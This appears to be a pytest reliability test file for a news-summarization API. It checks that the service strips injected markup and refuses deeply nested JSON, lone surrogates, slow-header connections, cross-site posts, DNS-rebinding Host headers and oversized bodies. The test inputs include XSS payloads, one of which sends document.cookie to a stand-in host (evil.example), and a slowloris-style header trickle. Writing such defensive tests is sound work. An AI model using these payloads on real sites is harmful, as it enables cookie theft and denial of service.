"""Hostile HTTP (issue 15, points 5 and 9-12): markup that survives, bodies that
crash the parser, a fetch held by slow headers, cross-site posts to a loopback
server, and the smaller ones (keys before bodies, parsing off the loop, slow
headers, a client that hangs up while waiting).

What a worker reads goes through ``prepare_article`` / ``summarize_article`` (the
code a worker runs); request handling goes through the API on the module's
private Redis, in-process (TestClient) or served by uvicorn on a loopback port
as ``newsum serve`` serves it (``service.server.api_server``). No worker runs:
nothing here needs one. Waits poll a condition every 50 ms up to a generous
deadline; no test sleeps for a fixed time to let something happen.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from tests.reliability.conftest import RedisProcess, article
from tests.reliability.served_api import (
    headers_only,
    read_response,
    served,
    until,
)
from tests.reliability.test_access import Api
from tests.slow_headers import SlowHeaders
from workers.article.fetch import FetchPolicy, fetch_url, url_fetcher
from workers.contract import ArticleInput, SummaryOptions
from workers.errors import FetchFailed
from workers.pipeline import prepare_article
from workers.settings import load_settings
from workers.store.cache import PipelineInfo, publish_pipeline

pytestmark = pytest.mark.reliability

BODY = (
    "新华社北京1月9日电 国务院常务会议今天在北京召开。会议决定加快发展新能源汽车产业，"
    "全年投资120亿元。会议指出，要加强充电基础设施建设。有关部门负责人出席会议。"
)
HOSTILE = ("<script", "alert(", "onerror", "onclick", "javascript:", "evil.example", "cookie")
SETTINGS = load_settings()
LOOPBACK = FetchPolicy(allow_networks=(ipaddress.ip_network("127.0.0.1/32"),))
DEEP = "[" * 1000 + "]" * 1000


@pytest.fixture(scope="module")
def api(private_redis: RedisProcess) -> Api:
    return Api(private_redis, anonymous="all")


# ------------------------------------------------------------------ 5. markup


@pytest.mark.parametrize(
    "given",
    [
        # An html field with one known tag: once read as plain text, markup and all.
        {
            "html": f"<script>document.location='http://evil.example/'+document.cookie</script>{BODY}"
        },
        {"html": f'<img src=x onerror="alert(1)">{BODY}<a href="javascript:alert(2)">链接</a>'},
        {"html": f"{BODY}\n<script>alert(document.cookie)</script>\n{BODY[::-1]}"},
        # Text that carries a script: no script content ever reaches a result.
        {"text": f"{BODY}<script>alert(document.cookie)</script>{BODY[::-1]}"},
        {"text": f'<img src=x onerror="alert(1)">{BODY}'},
        # A page whose text spells markup in entities: decoded, it is markup again.
        {"html": f"<div><p>{BODY}</p><p>&lt;script&gt;alert(3)&lt;/script&gt;</p></div>"},
    ],
)
def test_markup_never_reaches_a_result(given: dict[str, str]) -> None:
    from workers.english.engines import load_engines
    from workers.pipeline import summarize_article

    engines = load_engines(SETTINGS, "offline")
    result = summarize_article(
        ArticleInput(**given), SummaryOptions(translate=False), engines, SETTINGS, key="k"
    )
    blob = result.model_dump_json()
    for needle in HOSTILE:
        assert needle not in blob, needle
    assert BODY[:20] in result.article.text
    assert result.summary.zh and BODY[:10] in result.summary.zh


def test_an_html_field_is_parsed_as_html_even_with_little_markup() -> None:
    second = "会议强调，各地要统筹成本&amp;收益，确保投资回报率&lt;5%的项目从严审批。"
    prepared = prepare_article(ArticleInput(html=f"{BODY}<br>{second}"), SETTINGS)
    # Entities decoded, <br> a line break: as a browser shows it.
    shown = second.replace("&amp;", "&").replace("&lt;", "<")
    assert [line for line in prepared.text.splitlines() if line] == [BODY, shown]


# ------------------------------------------------------------------ 9. malformed JSON


def _post(api: Api, path: str, body: str, ctype: str = "application/json") -> httpx.Response:
    return api.http.post(path, content=body.encode(), headers={"Content-Type": ctype})


@pytest.mark.parametrize(
    ("path", "body", "ctype"),
    [
        ("/v1/batches", '{"items": ' + DEEP + "}", "application/json"),
        ("/v1/batches", DEEP, "application/json"),
        ("/v1/summaries", '{"text": ' + DEEP + "}", "application/json"),
    ],
)
def test_json_nested_a_thousand_deep_is_422(api: Api, path: str, body: str, ctype: str) -> None:
    r = _post(api, path, body, ctype)
    assert r.status_code == 422, r.text
    assert r.json()["error"] == {
        "code": "invalid_request",
        "message": "the body nests arrays and objects deeper than 64 levels",
        "limit": 64,
    }


def test_a_jsonl_line_nested_a_thousand_deep_fails_that_item(api: Api) -> None:
    body = json.dumps({"text": article(1)}) + "\n" + '{"text": ' + DEEP + "}\n"
    r = _post(api, "/v1/batches", body, "application/x-ndjson")
    if r.status_code == 422:  # a batch validated whole before anything is sent
        assert "line 2 nests arrays and objects deeper than 64 levels" in r.text
        return
    assert r.status_code == 202, r.text
    lines = api.http.get(f"/v1/batches/{r.json()['batch_id']}/results").text.splitlines()
    error = json.loads(lines[1])["error"]
    assert error["code"] == "invalid_request"
    assert error["message"] == "line 2 nests arrays and objects deeper than 64 levels"


@pytest.mark.parametrize("path", ["/translate", "/detect"])
def test_deep_json_on_libretranslate_routes_is_400_in_its_shape(api: Api, path: str) -> None:
    r = _post(api, path, '{"q": ' + DEEP + ', "source": "zh", "target": "en"}')
    assert r.status_code == 400, r.text
    assert r.json() == {
        "error": "Invalid request: the body nests arrays and objects deeper than 64 levels"
    }


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/v1/summaries", '{"text": "\\ud800' + BODY + '"}', "text"),
        ("/v1/summaries", '{"url": "https://news.example.com/\\udfff"}', "url"),
        (
            "/v1/summaries",
            '{"text": "' + BODY + '", "options": {"glossary": {"会议": "\\ud800x"}}}',
            "options.glossary.会议",
        ),
        (
            "/v1/batches",
            '{"items": [{"text": "' + BODY + '"}, {"text": "\\udbff"}]}',
            "items.1.text",
        ),
    ],
)
def test_a_lone_surrogate_is_422_naming_the_field(
    api: Api, path: str, body: str, field: str
) -> None:
    r = _post(api, path, body)
    assert r.status_code == 422, r.text
    assert r.json()["error"] == {
        "code": "invalid_request",
        "message": f"the body: {field} holds a lone surrogate escape (\\ud800-\\udfff), "
        "which is not a character; send UTF-8 text",
        "limit": None,
    }


def test_a_surrogate_pair_is_one_character_and_fine(api: Api) -> None:
    r = _post(api, "/v1/summaries", '{"text": "\\ud83d\\ude00' + BODY + '", "wait": 0}')
    assert r.status_code == 202, r.text


# ------------------------------------------------------------------ 10. fetch budget


@pytest.fixture
def slow_headers() -> Iterator[SlowHeaders]:
    server = SlowHeaders()
    yield server
    server.close()


def test_a_fetch_held_by_slow_headers_ends_at_its_budget(slow_headers: SlowHeaders) -> None:
    started = time.monotonic()
    with pytest.raises(FetchFailed) as caught:
        fetch_url(slow_headers.url, timeout_s=1.0, policy=LOOPBACK)
    took = time.monotonic() - started
    assert caught.value.message == f"fetching {slow_headers.url} took longer than 1 s"
    assert took < 8, took  # the server would drip for 30 s; the budget is 1 s
    assert until(slow_headers.hung_up.is_set, 10)  # and the connection was dropped


def test_a_worker_fetching_a_slow_header_page_fails_it_in_time(
    slow_headers: SlowHeaders,
) -> None:
    fetch = url_fetcher(timeout_s=1.0, policy=LOOPBACK)
    started = time.monotonic()
    with pytest.raises(FetchFailed):
        prepare_article(ArticleInput(url=slow_headers.url), SETTINGS, fetch=fetch)
    assert time.monotonic() - started < 8


# ------------------------------------------------------------------ served on loopback


# ------------------------------------------------------------------ 11. cross-site


def test_a_loopback_server_refuses_cross_site_writes_and_foreign_hosts(
    private_redis: RedisProcess,
) -> None:
    batch = json.dumps({"items": [{"text": article(2)}]})
    with served(private_redis, anonymous="all") as api, api.http() as http:
        # The attack: a web page's form posts text/plain, from its own Origin.
        r = http.post(
            "/v1/batches",
            content=batch,
            headers={"Content-Type": "text/plain", "Origin": "https://evil.example"},
        )
        assert r.status_code == 403, r.text
        assert r.json()["error"]["code"] == "forbidden"
        assert "Origin 'https://evil.example'" in r.json()["error"]["message"]
        # Without the Origin, text/plain is still no JSON content type.
        r = http.post("/v1/batches", content=batch, headers={"Content-Type": "text/plain"})
        assert r.status_code == 415 and r.json()["error"]["code"] == "unsupported_media_type"
        # DNS rebinding: the attacker's name, pointed at 127.0.0.1.
        r = http.get("/v1/batches/abc", headers={"Host": f"evil.example:{api.port}"})
        assert r.status_code == 403, r.text
        assert "not to Host 'evil.example:" in r.json()["error"]["message"]
        # The server's own names and origins, and clients that send no Origin, pass.
        for host in (f"127.0.0.1:{api.port}", f"localhost:{api.port}", "localhost"):
            assert http.get("/healthz", headers={"Host": host}).status_code == 200, host
        for origin in (api.url, f"http://localhost:{api.port}", None):
            headers = {"Content-Type": "application/json"} | ({"Origin": origin} if origin else {})
            r = http.post("/v1/batches", content=batch, headers=headers)
            assert r.status_code == 202, (origin, r.text)
        # LibreTranslate's clients post forms without an Origin: still answered.
        r = http.post("/detect", data={"q": "你好，世界"})
        assert r.status_code == 200 and r.json()[0]["language"] == "zh", r.text
        r = http.post("/detect", data={"q": "你好"}, headers={"Origin": "https://evil.example"})
        assert r.status_code == 403 and "evil.example" in r.json()["error"]


def test_json_endpoints_refuse_other_content_types_with_415(api: Api) -> None:
    body = json.dumps({"text": article(3), "wait": 0})
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; b=x"):
        r = api.http.post("/v1/summaries", content=body, headers={"Content-Type": ctype})
        assert r.status_code == 415, (ctype, r.text)
        assert r.json()["error"]["code"] == "unsupported_media_type"
    assert _post(api, "/v1/summaries", body, "application/json; charset=utf-8").status_code == 202
    r = _post(api, "/v1/batches", json.dumps({"text": article(4)}), "application/jsonl")
    assert r.status_code == 202, r.text


# ------------------------------------------------------------------ 12. smaller ones


def test_detect_needs_a_key_when_anonymous_calls_are_off_and_the_open_routes_stay_open(
    private_redis: RedisProcess,
) -> None:
    nobody = Api(private_redis, anonymous="none")
    r = nobody.http.post("/detect", json={"q": "你好"})
    assert r.status_code == 400 and "NEWSUM_ANONYMOUS=none" in r.json()["error"], r.text
    r = nobody.http.post("/detect", json={"q": "你好"}, headers={"X-API-Key": "nsk_bad"})
    assert r.status_code == 403 and r.json() == {"error": "Invalid API key"}
    for path in ("/languages", "/health", "/frontend/settings"):
        assert nobody.http.get(path).status_code == 200, path
    key = nobody.key()
    r = nobody.http.post("/detect", json={"q": "你好"}, headers={"Authorization": f"Bearer {key}"})
    assert r.status_code == 200 and r.json()[0]["language"] == "zh"
    r = nobody.http.post("/detect", json={"q": "你好", "api_key": key})
    assert r.status_code == 200, r.text


def test_detect_input_is_held_to_the_translate_character_limit(private_redis: RedisProcess) -> None:
    small = Api(private_redis, anonymous="all", max_chars=1_000)
    r = small.http.post("/detect", json={"q": ["中" * 600, "文" * 600]})
    assert r.status_code == 400, r.text
    assert r.json() == {"error": "Invalid request: request (1200) exceeds text limit (1000)"}
    assert small.http.post("/detect", json={"q": "中" * 900}).status_code == 200
    # A body bigger than any text within the limit can need is refused unparsed.
    big = json.dumps({"q": "中" * 30_000}, ensure_ascii=False).encode()  # 90 KB
    for path in ("/detect", "/translate"):
        r = small.http.post(path, content=big, headers={"Content-Type": "application/json"})
        assert r.status_code == 413, r.text
        assert r.json() == {
            "error": "Invalid request: the body is over 71,536 bytes, more than the text "
            "limit (NEWSUM_MAX_CHARS) can need"
        }
    escaped = json.dumps({"q": "中" * 1_000}).encode()  # \u4e2d: six bytes a character
    assert small.http.post("/detect", content=escaped).status_code == 200


def test_json_bodies_are_parsed_off_the_event_loop(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 19 MB body takes the parser about a second: never on the event loop's thread."""
    import service.json_body
    import service.libretranslate
    import service.routes.batches

    on_loop: list[bool] = []

    def watched(read: Callable[..., Any]) -> Callable[..., Any]:
        def read_json(*args: Any, **kwargs: Any) -> Any:
            try:
                asyncio.get_running_loop()
                on_loop.append(True)
            except RuntimeError:
                on_loop.append(False)
            return read(*args, **kwargs)

        return read_json

    original = service.json_body.read_json
    for module in (service.json_body, service.libretranslate, service.routes.batches):
        monkeypatch.setattr(module, "read_json", watched(original))
    assert api.http.post("/detect", json={"q": "你好"}).status_code == 200
    assert api.http.post("/v1/summaries", json={"text": article(5), "wait": 0}).status_code == 202
    assert api.http.post("/v1/batches", json={"items": [{"text": article(6)}]}).status_code == 202
    r = _post(api, "/v1/batches", json.dumps({"text": article(7)}), "application/x-ndjson")
    assert r.status_code == 202
    assert on_loop == [False] * 4


def test_the_key_is_checked_before_the_body_is_read(private_redis: RedisProcess) -> None:
    """A keyless 19 MB post is answered from its headers: the body is never awaited."""
    size = 19_000_000
    with served(private_redis, anonymous="none") as api:
        for path, status, says in [
            ("/v1/summaries", 401, b"NEWSUM_ANONYMOUS=none"),
            ("/v1/batches", 401, b"NEWSUM_ANONYMOUS=none"),
        ]:
            with api.raw() as sock:
                sock.sendall(headers_only(path, size))
                answer = read_response(sock)
            assert answer.startswith(f"HTTP/1.1 {status}".encode()), (path, answer[:200])
            assert says in answer
        bad_key = "X-API-Key: nsk_000000000000_" + "a" * 43 + "\r\n"
        for path, status in [("/v1/summaries", 401), ("/translate", 403), ("/detect", 403)]:
            with api.raw() as sock:
                sock.sendall(headers_only(path, size, bad_key))
                answer = read_response(sock)
            assert answer.startswith(f"HTTP/1.1 {status}".encode()), (path, answer[:200])


def test_a_chunked_body_over_the_limit_is_413(private_redis: RedisProcess) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"text": "'
        for _ in range(40):
            yield "中".encode() * 10_000

    with served(private_redis, anonymous="all", max_body_bytes=200_000) as api, api.http() as http:
        r = http.post(
            "/v1/summaries", content=chunks(), headers={"Content-Type": "application/json"}
        )
        assert r.status_code == 413, r.text
        assert r.json()["error"]["code"] == "too_large"
        assert r.json()["error"]["limit"] == 200_000


def test_a_client_that_hangs_up_during_wait_stops_the_server_waiting(
    private_redis: RedisProcess,
) -> None:
    body = json.dumps({"text": article(8, "挂断"), "wait": 60}).encode()
    with served(private_redis, anonymous="all") as api:
        updates = api.app.state.newsum.updates
        sock = api.raw()
        sock.sendall(headers_only("/v1/summaries", len(body)) + body)
        assert until(lambda: updates.watching == 1), "the request never started waiting"
        sock.close()
        assert until(lambda: updates.watching == 0, 20), "still waiting for a gone client"


def test_a_client_that_hangs_up_during_a_translation_stops_the_server_waiting(
    private_redis: RedisProcess,
) -> None:
    """/translate waits up to NEWSUM_MAX_WAIT_S for its worker: not for a gone client."""
    body = json.dumps({"q": "挂断的客户端", "source": "zh", "target": "en"}).encode()
    with served(private_redis, anonymous="all") as api:
        state = api.app.state.newsum
        publish_pipeline(
            state.redis,
            state.layout,
            PipelineInfo("offline", "fp", [], True, []),  # a translator: the wait begins
            also_as=("auto",),
        )
        sock = api.raw()
        sock.sendall(headers_only("/translate", len(body)) + body)
        assert until(lambda: state.updates.watching == 1), "the translation never started"
        sock.close()
        assert until(lambda: state.updates.watching == 0, 20), "still waiting for a gone client"


def test_a_slow_header_connection_is_cut_off(private_redis: RedisProcess) -> None:
    from service.server import MAX_CONNECTIONS, MAX_HEAD_BYTES

    with served(private_redis, {"header_timeout_s": 1.0}, anonymous="all") as api:
        config = api.server.config
        assert config.limit_concurrency == MAX_CONNECTIONS
        assert config.h11_max_incomplete_event_size == MAX_HEAD_BYTES
        assert config.timeout_keep_alive <= 5
        sock = api.raw()
        sock.settimeout(0.05)
        sock.sendall(b"POST /v1/summaries HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        closed = threading.Event()
        started = time.monotonic()

        def trickle() -> bool:
            if closed.is_set():
                return True
            try:
                sock.sendall(f"X-Slow-{int(time.monotonic() * 1000)}: 1\r\n".encode())
                if sock.recv(1024) == b"":
                    closed.set()
            except TimeoutError:
                pass
            except OSError:
                closed.set()
            return closed.is_set()

        assert until(trickle, 30), "the server kept a slow-header connection for 30 s"
        assert time.monotonic() - started < 15
        sock.close()
        # A connection that completes its request head in time is served as before.
        with api.http() as http:
            assert http.get("/healthz").status_code == 200
